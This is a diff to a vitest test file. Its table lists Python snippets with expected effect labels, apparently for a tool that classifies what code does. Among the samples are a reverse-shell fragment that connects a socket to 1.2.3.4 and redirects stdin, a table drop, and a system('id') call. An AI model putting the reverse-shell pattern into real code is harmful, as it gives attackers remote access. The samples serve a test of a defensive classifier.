@@ -3,6 +3,10 @@ import { describe } from "vitest";
 import { reads, type Row } from "./brief.ts";
 
 const rows: readonly Row[] = [
+  ["a, b = open('x').read().split(':')\nprint(a.strip(), b.upper())", "read x"],
+  ["class A:\n  @classmethod\n  def of(cls, x): return cls(x)\nprint(A.of(1))", "pure"],
+  ["import sqlite3; print(sqlite3.connect('x.db').execute('select 1').fetchall())", "read x.db"],
+  ["import sqlite3; sqlite3.connect('x.db').execute('drop table x')", "read x.db", "unknown"],
   ["open('x','w').close()", "empty x", "overwrite x"],
   ["from pathlib import Path; Path('x').write_text('')", "empty x"],
   ["import os; print(os.sep.join(['a', 'b']), os.sep)", "pure"],
@@ -59,7 +63,7 @@ const rows: readonly Row[] = [
   ["import socket; s=socket.socket(); s.connect(('1.2.3.4',9)); import os; os.dup2(s.fileno(),0)", "dynamic", "send"],
   ["import sys; sys.stdout.write('x')", "pure"],
   ["from os import *\nsystem('id')", "shell id"],
-  ["import sqlite3; c=sqlite3.connect('x.db')", "unknown"],
+  ["import sqlite3; c=sqlite3.connect('x.db')", "read x.db"],
   ["import hashlib,sys; print(hashlib.sha256(open('f','rb').read()).hexdigest())", "read f"],
   ["import datetime as dt; print(dt.datetime.now().isoformat())", "pure"],
   ["compile('x','y','exec')", "dynamic"],
